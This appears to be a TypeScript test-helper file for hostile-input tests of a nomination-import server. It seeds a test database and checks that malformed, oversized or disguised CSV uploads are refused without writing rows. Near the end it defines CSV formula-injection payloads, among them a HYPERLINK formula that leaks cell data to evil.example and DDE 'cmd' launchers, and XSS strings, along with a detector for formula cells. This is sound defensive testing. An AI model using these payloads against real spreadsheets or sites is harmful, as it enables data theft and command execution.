// The world of the hostile-input server tests (hostile-input.test.ts, hostile-rosters.test.ts): one
// temporary database with a seeded campaign, and the helpers that check a refusal wrote nothing.
// `db`, `config` and `channel` are live bindings: set by openHostileWorld() in each file's beforeAll.
import { expect } from 'vitest';
import { eq } from 'drizzle-orm';
import Papa from 'papaparse';
import { freshDb, tableCounts as countRows } from './db';
import type { DB } from '../../src/lib/server/db';
import { campaigns } from '../../src/lib/server/db/schema';
import type { Actor } from '../../src/lib/server/audit';
import { seedCampaign } from '../../src/lib/server/demo';
import { importCandidates, previewUpload } from '../../src/lib/server/services/intake';
import { importExperts } from '../../src/lib/server/services/experts';
import { configOf } from '../../src/lib/server/services/campaigns';
import type { CampaignConfig } from '../../src/lib/domain/types';

export const ACTOR: Actor = { id: null, name: '测试' };
export const C = 'hostile';
export let db: DB;
export let config: CampaignConfig;
export let channel: string;

// ---------------------------------------------------------------- helpers

/** Row counts of every table of the world's database (or of `d`). */
export const tableCounts = (d: DB = db) => countRows(d);

/** Runs `fn` and checks that no table gained or lost a row. */
export async function unchanged<T>(fn: () => Promise<T>): Promise<T> {
	const before = await tableCounts();
	expect(Object.keys(before).length).toBeGreaterThan(10);
	const result = await fn();
	expect(await tableCounts()).toEqual(before);
	return result;
}

export const utf8 = (text: string) => new TextEncoder().encode(text);
export const csv = (table: string[][]) => utf8(Papa.unparse(table, { newline: '\r\n' }));

export const HEADER = ['姓名', '性别', '出生年月', '工作单位及职务职称', '推荐领域', '推荐单位'];
export const row = (name: string, birth = '1980.05') => [name, '男', birth, '某大学 教授', '前沿', channel];
export const goodNominations = () => csv([HEADER, row('覃志刚'), row('黄丽萍')]);

/** Deterministic noise with every byte value, NUL included. */
export function noise(n: number, seed = 7): Uint8Array {
	const out = new Uint8Array(n);
	let s = seed >>> 0;
	for (let i = 0; i < n; i++) {
		s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
		out[i] = s >>> 24;
	}
	return out;
}

/** A real PNG signature and IHDR chunk: what a photo renamed to .csv starts with. */
export const PNG = new Uint8Array([
	0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0,
	0, 0, 0x90, 0x77, 0x53, 0xde, 0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82
]);

/** A nomination file of about `mb` megabytes of plausible rows. */
export function bigNominationFile(mb: number): Uint8Array {
	const lines = [HEADER.join(',')];
	let size = 0;
	for (let i = 0; size < mb * 1024 * 1024; i++) {
		const line = [`候选人${i}`, i % 2 ? '女' : '男', '1980.05', '某大学 教授', '前沿', channel].join(',');
		lines.push(line);
		size += Buffer.byteLength(line) + 2;
	}
	return utf8(lines.join('\r\n'));
}

export type ImportRefusal = { ok: false; errors: { row: number; column: string; message: string }[] };

/** importCandidates refuses the file, writes nothing, and the preview says the same. */
export async function refusedNominations(
	bytes: Uint8Array,
	filename = 'hostile.csv'
): Promise<ImportRefusal['errors']> {
	const preview = await previewUpload(config, [{ name: filename, bytes }]);
	expect(preview.ok).toBe(false);
	const r = await unchanged(() => importCandidates(db, ACTOR, C, bytes, { filename }));
	expect(r.ok).toBe(false);
	const errors = (r as ImportRefusal).errors;
	expect(errors.length).toBeGreaterThan(0);
	for (const e of errors) expect(e.message).toMatch(/[\u4e00-\u9fff]/);
	expect(errors).toEqual(preview.errors);
	return errors;
}

/** importExperts refuses the file and writes nothing. */
export async function refusedExperts(bytes: Uint8Array): Promise<{ row: number; column: string; message: string }[]> {
	const r = await unchanged(() => importExperts(db, ACTOR, C, bytes, { filename: 'experts.csv' }));
	expect(r.ok).toBe(false);
	if (r.ok) throw new Error('imported');
	expect(r.errors.length).toBeGreaterThan(0);
	for (const e of r.errors) expect(e.message).toMatch(/[\u4e00-\u9fff]/);
	return r.errors;
}

export const messages = (errors: { message: string }[]) => errors.map((e) => e.message).join('\n');

/** A fresh database with one seeded campaign; sets db, config and channel. */
export async function openHostileWorld(): Promise<void> {
	db = await freshDb();
	await seedCampaign(db, { id: C, name: '恶意输入测试', prefix: 'hx-', seed: 3, candidates: 30 });
	const c = (await db.select().from(campaigns).where(eq(campaigns.id, C)))[0];
	config = configOf(c);
	channel = config.channels[0].name;
	// Sanity: the good file of the helpers imports (as a dry run: nothing written).
	const dry = await unchanged(() => importCandidates(db, ACTOR, C, goodNominations(), { dryRun: true }));
	expect(dry).toMatchObject({ ok: true, imported: 2 });
}

export const FORMULAS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
	"+cmd|' /C calc'!A0",
	'-1+1',
	"@SUM(1+1)*cmd|' /C calc'!A0"
];
export const SCRIPT = '<script>alert(1)</script>';
export const IMG = '<img src=x onerror=alert(1)>';

/** Every cell of a CSV export that a spreadsheet would run as a formula (plain numbers are fine). */
export function formulaCells(text: string): string[] {
	const table = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
	return table.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}
